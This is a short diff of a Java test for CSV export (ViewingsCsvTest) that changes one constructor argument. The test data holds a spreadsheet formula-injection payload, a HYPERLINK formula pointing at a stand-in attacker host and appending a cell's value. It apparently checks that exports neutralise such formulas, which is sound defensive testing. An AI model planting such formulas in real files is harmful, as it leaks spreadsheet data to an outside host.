@@ -29,7 +29,7 @@ class ViewingsCsvTest {
                             null,
                             null,
                             false,
-                            true),
+                            null),
                     "=HYPERLINK(\"https://evil.example/\"&A2)");
         }
 
